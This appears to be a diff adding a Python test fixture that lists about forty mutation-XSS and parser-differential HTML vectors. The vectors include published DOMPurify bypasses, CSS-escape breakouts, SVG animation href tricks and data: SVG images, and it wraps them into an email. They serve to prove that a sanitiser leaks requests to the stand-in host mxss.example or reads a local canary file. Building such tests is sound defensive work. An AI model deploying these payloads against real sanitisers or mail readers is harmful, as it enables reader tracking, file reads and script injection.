@@ -1,0 +1,91 @@
+# ruff: noqa: E501 - one vector a line reads best
+"""Parser-differential (mutation XSS) and foreign-content vectors for the leak proof (issue 16).
+
+Each vector is HTML in which a lenient parser and a browser disagree about what is an element, or
+in which SVG/MathML, CSS escapes, data: images or animation reach out after sanitising. Every
+address is under `mxss.example` (the leak proofs rewrite it to their counting servers) or the
+canary file given to `vectors()` (a local-file read). Sources of the shapes: the issue's own
+reports, DOMPurify's test suite and its published bypasses (2.0.0 `</p>` in SVG, 2.0.17
+namespace confusion with <form>/<mglyph>, 2.2.2 <mglyph><style> comments), and the WHATWG
+tree-construction rules for integration points, raw text and comments.
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+from email.message import EmailMessage
+
+H = "https://mxss.example"
+
+
+def _svg_reading(canary: str) -> bytes:
+    return (
+        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">'
+        f'<image href="file://{canary}" xlink:href="file://{canary}" width="40" height="40"/>'
+        f'<image href="{H}/svg-in-data.png" width="4" height="4"/></svg>'
+    ).encode()
+
+
+def vectors(canary: str = "/nonexistent/canary.png") -> list[tuple[str, str]]:
+    """(name, HTML fragment) pairs; `canary` is a local file whose reading would be a leak."""
+    svg = _svg_reading(canary)
+    b64 = base64.b64encode(svg).decode()
+    gz = base64.b64encode(gzip.compress(svg)).decode()
+    return [
+        # -- the issue's reports
+        ("svg-style-markup", f'<svg><style>a{{}}<p><link rel="preconnect" href="{H}/pc"><img src="{H}/x.png">{{}}</style></svg>'),
+        ("math-style-markup", f'<math><style><img src="{H}/math-style.png"></style></math>'),
+        ("svg-style-meta-refresh", f'<svg><style><meta http-equiv="refresh" content="0;url={H}/refresh"></style></svg>'),
+        ("css-escape-end-style", f'<style>a{{content:"\\3c/style\\3e\\3cimg src={H}/css-escape.png\\3e"}}</style>'),
+        ("css-escape-comment", f'<style>a{{content:"\\3c!-- --!\\3e\\3c/style\\3e\\3cimg src={H}/css-comment.png\\3e"}}</style>'),
+        ("css-escape-cdata", f'<style>a{{content:"\\3c![CDATA[\\3c/style\\3e\\3cimg src={H}/css-cdata.png\\3e"}}</style>'),
+        ("svg-set-href", f'<svg><image id="i1" width="9" height="9"/><set href="#i1" attributeName="href" to="{H}/set.png"/></svg>'),
+        ("svg-animate-xlink", f'<svg><image width="9" height="9"><animate attributeName="xlink:href" values="{H}/animate.png" dur="1s"/></image></svg>'),
+        ("svg-animate-to", f'<svg><image width="9" height="9"><animate attributeName="href" from="#" to="{H}/animate-to.png" begin="0s" dur="1s" fill="freeze"/></image></svg>'),
+        ("data-png-is-svg", f'<img src="data:image/png;base64,{b64}" width="40" height="40">'),
+        ("data-gif-is-gzipped-svg", f'<img src="data:image/gif;base64,{gz}" width="40" height="40">'),
+        ("data-png-is-svg-in-css", f'<div style="background:url(data:image/png;base64,{b64});width:40px;height:40px">x</div>'),
+        # -- DOMPurify bypass history and mXSS literature
+        ("dompurify-2.0.0-p-in-svg", f'<svg></p><style><a id="</style><img src={H}/dp-p.png>">'),
+        ("svg-p-style-id", f'<svg><p><style><a id="</style><img src={H}/dp-p2.png>"></p></svg>'),
+        ("namespace-confusion-form", f"<form><math><mtext></form><form><mglyph><style></math><img src={H}/ns-form.png>"),
+        ("mglyph-style-comment", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src={H}/mglyph.png&gt;">'),
+        ("mglyph-svg-textarea", f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src={H}/mglyph-ta.png>">'),
+        ("noscript-title", f'<noscript><p title="</noscript><img src={H}/noscript.png>"></noscript>'),
+        ("noembed-title", f'<noembed><img title="</noembed><img src={H}/noembed.png>"></noembed>'),
+        ("noframes-style", f"<noframes><style></noframes><img src={H}/noframes.png>"),
+        ("xmp-text", f"<xmp><img src={H}/xmp.png></xmp>"),
+        ("iframe-text", f"<iframe><img src={H}/iframe-text.png></iframe>"),
+        ("svg-cdata", f"<svg><![CDATA[</svg><img src={H}/svg-cdata.png>]]></svg>"),
+        ("svg-style-cdata", f"<svg><style><![CDATA[</style><img src={H}/svg-style-cdata.png>]]></style></svg>"),
+        ("svg-title-integration-point", f"<svg><title><style><img src={H}/svg-title.png></style></title></svg>"),
+        ("annotation-xml-html", f'<math><annotation-xml encoding="text/html"><style><img src={H}/annotation.png></style></annotation-xml></math>'),
+        ("foreignobject-style", f"<svg><foreignObject><style><img src={H}/foreign.png></style></foreignObject></svg>"),
+        ("svg-style-import", f'<svg><style>@import "{H}/svg-import.css";</style></svg>'),
+        ("svg-style-background", f"<svg><style>*{{background:url({H}/svg-bg.png)}}</style><rect width='9' height='9'/></svg>"),
+        ("svg-script-href", f'<svg><script href="{H}/svg-script.js"></script><script xlink:href="{H}/svg-script2.js"/></svg>'),
+        ("table-foster-style", f"<table><style>x{{}}</style><img src={H}/foster.png><tr><td>cell</td></tr></table>"),
+        ("select-template", f"<select><template><img src={H}/select-template.png></template></select>"),
+        ("comment-abrupt", f"<!--><img src={H}/comment-abrupt.png>-->"),
+        ("comment-bang-end", f"<!----!><img src={H}/comment-bang.png>-->"),
+        ("bogus-comment-pi", f"<?xml ?><img src={H}/bogus-pi.png>"),
+        ("plaintext", f"<plaintext><img src={H}/plaintext.png>"),
+        ("link-hints", f'<link rel="dns-prefetch" href="//dns.mxss.example"><link rel="preload" href="{H}/preload.png" as="image"><link rel="modulepreload" href="{H}/mod.js">'),
+        ("meta-link-header", f'<meta http-equiv="Link" content="<{H}/meta-link.css>; rel=preload; as=style">'),
+        ("svg-use-data-svg", f'<svg><use href="data:image/svg+xml;base64,{b64}#x"/></svg>'),
+        ("svg-feimage-data-svg", f'<svg><filter id="f"><feImage href="data:image/png;base64,{b64}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>'),
+        ("local-file-image", f'<img src="file://{canary}"><div style="background:url(file://{canary})">x</div>'),
+    ]  # fmt: skip
+
+
+def vectors_message(canary: str = "/nonexistent/canary.png") -> bytes:
+    """All vectors, one HTML body, each in its own block so one cannot swallow the next."""
+    blocks = "".join(f'<div id="v-{name}">{html}</div>\n' for name, html in vectors(canary) if name != "plaintext")
+    message = EmailMessage()
+    message["From"] = "Newsroom <news@mxss.example>"
+    message["To"] = "reader@example.org"
+    message["Subject"] = "Parser differentials"
+    message.set_content("text part")
+    message.add_alternative(f"<html><body>{blocks}<p>end</p></body></html>", subtype="html")
+    return message.as_bytes()
